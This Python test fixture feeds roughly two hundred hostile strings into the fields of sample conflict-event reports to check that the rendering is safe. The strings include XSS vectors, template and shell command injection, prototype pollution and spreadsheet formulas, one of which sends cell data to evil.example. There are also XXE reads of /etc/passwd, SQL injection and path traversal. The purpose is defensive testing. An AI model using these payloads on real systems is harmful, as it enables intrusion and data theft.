"""Two hundred texts that an article could hold to do harm where they are shown, each by another way in.

What runs in a page calls alert(1), fetches from evil.example or sets `polluted`: the tests hear of all three.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from .sample_reports import ARTICLE, report

TOLD = (
    "place_text", "place_name", "place_id", "place_reason", "admin1", "admin2", "country_name", "toll_text",
    "perpetrator", "target", "weapon", "attribution", "quote",
)  # fmt: skip
"""The fields of an event that hold words."""
NOWHERE = (
    "place_name", "place_id", "place_level", "lat", "lon", "radius_km", "place_confidence", "country",
    "country_name", "admin1", "admin2", "ucdp_where_prec", "acled_geo_precision",
)  # fmt: skip
"""Those that are null where the place is not known."""
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<script type=module>import 'https://evil.example/a.mjs'</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "</script\t><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)//-->",
    "<!-- <script> -->",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<style><script>alert(1)</script></style>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "‹script›alert(1)‹/script›",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<picture><source srcset=https://evil.example/b.png></picture>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/c.png>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/d.png></video>",
    "<audio src=https://evil.example/e.mp3 autoplay>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/f.swf>",
    "<link rel=stylesheet href=https://evil.example/g.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<a href=javascript:alert(1)>read on</a>",
    "<a ping=https://evil.example/ href=#>read on</a>",
    "<div style='background:url(https://evil.example/h.png)'>",
    "<x onclick=alert(1) tabindex=1 autofocus>",
    "<button onfocus=alert(1) autofocus>",
    "<p onmouseover=alert(1)>words</p>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\"/><svg/onload=alert(1)>",
)
VECTORS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><image href=https://evil.example/i.png></svg>",
    "<svg><style>@import 'https://evil.example/j.css'</style></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://news.example/%0aalert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "about:blank#<script>alert(1)</script>",
    "view-source:https://evil.example/",
    "//evil.example/k",
    "https:evil.example",
    "https://news.example/\"onmouseover=\"alert(1)",
    "https://user:secret@evil.example/",
    "https://news.example/`${alert(1)}`",
    "https://news.example/?q=<script>alert(1)</script>",
    "http://[::1",
    "https://xn--e1awd7f.example/ payload",
)
TEMPLATES = (
    "${alert(1)}",
    "`${alert(1)}`",
    "`;alert(1);`",
    "\\`${alert(1)}",
    "#{alert(1)}",
    "{{ 7 * 7 }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}",
    "{# comment #}",
    "<%= 7 * 7 %>",
    "<?php system('id') ?>",
    "[[${7*7}]]",
    "{killed} {name} {0} {}",
    "%(password)s %s %d %n",
    "$(id) `id` ; id | id && id",
    "@@version @{alert(1)}",
    "[% expression %]",
    "[% \"id\" %] [%id%] [%eval('1/0')%]",
    "'); alert(1); ('",
    "\"); alert(1); (\"",
    "';alert(1)//",
    "\\';alert(1)//",
    "\\\");alert(1);//",
    "*/alert(1)/*",
    "//# sourceMappingURL=https://evil.example/m.map",
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "length",
    "null",
    "undefined",
    "NaN",
    "{\"__proto__\": {\"polluted\": 1}}",
    "constructor[prototype][polluted]=1",
)
STYLES = (
    "</style><script>alert(1)</script>",
    "expression(alert(1))",
    "url(https://evil.example/l.png)",
    "red;background:url(https://evil.example/m.png)",
    "@import url(https://evil.example/n.css);",
    "*{display:none!important}",
    "</style><style>*{display:none}</style>",
)
UNSEEN = (
    "\u202eabcdef killed\u202c",
    "\u2066left\u2069 \u2067right\u2069",
    "safe\u200f\u061cmarks",
    "كلام \u202dforced\u202c",
    "nul\x00inside",
    "\x00",
    "bell\x07 escape\x1b[31mred",
    "delete\x7f next\x85line",
    "half \ud800 a pair",
    "other half \udc00",
    "line\u2028separator",
    "paragraph\u2029separator",
    "zero\u200bwidth\u200cjoin\u200der",
    "\ufeffmark of byte order",
    "soft\u00adhyphen",
    "no\ufffecharacter\uffff",
    "\U000e0041\U000e0042tags",
    "Zalgo: h\u0315\u0334\u0321e\u0336\u0488 comes",
    "carriage\rreturn",
    "\u00a0\u3000",
    "interlinear\ufff9a\ufffab\ufffb",
    "\U0010ffff\U0001fffe",
)
LARGE = (
    "w" * 5_000,
    "<b>" * 700,
    "&" * 3_000,
    "\U0001f4a3" * 900,
    "\u0645" * 2_000,
    "\"" * 2_000,
    "\\" * 2_001,
    "a\u0301" * 1_000,
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"read on\")",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "a,b;c\td\ne",
)
MARKUP = (
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!ENTITY lol 'lol'>&lol;",
    "<?xml version='1.0'?>",
    "<?xml-stylesheet href='https://evil.example/o.xsl'?>",
    "&nbsp;&copy;&undefined;",
    "&#0;&#xFFFE;",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "../../../../etc/passwd",
)

HOSTILE: tuple[str, ...] = (
    *SCRIPTS, *HANDLERS, *VECTORS, *LINKS, *TEMPLATES, *NAMES, *STYLES, *UNSEEN, *LARGE, *FORMULAS, *MARKUP,
    *QUERIES,
)  # fmt: skip


def hostile_reports() -> Iterator[dict[str, Any]]:
    """An event for each text, which stands in every field that words of an article can come to: at a point,
    near one, in an area, nowhere, in turn; told by two sources."""
    for n, text in enumerate(HOSTILE):
        words = dict.fromkeys(TOLD, text)
        place = {"place_level": ("town", "near", "province", "facility")[n % 4], "radius_km": 3.0 + n % 40}
        article = replace(ARTICLE, title=text, outlet=text, url=text)
        event = report(article=article, id=text, lat=20.0 + n // 20, lon=20.0 + n % 20, **place, **words)
        if n % 4 == 3:
            event |= dict.fromkeys(NOWHERE)
        (claim,) = json.loads(event["claims"])
        claims = [claim, claim | {"source": f"{text}!", "attribution": text, "url": f"https://b.example/{n}"}]
        yield event | {
            "source_count": 2, "sources": f"{text}; {text}!", "urls": claims[1]["url"],
            "titles": f"{text}; {text}", "grade": "Fair", "claims": json.dumps(claims),
        }  # fmt: skip
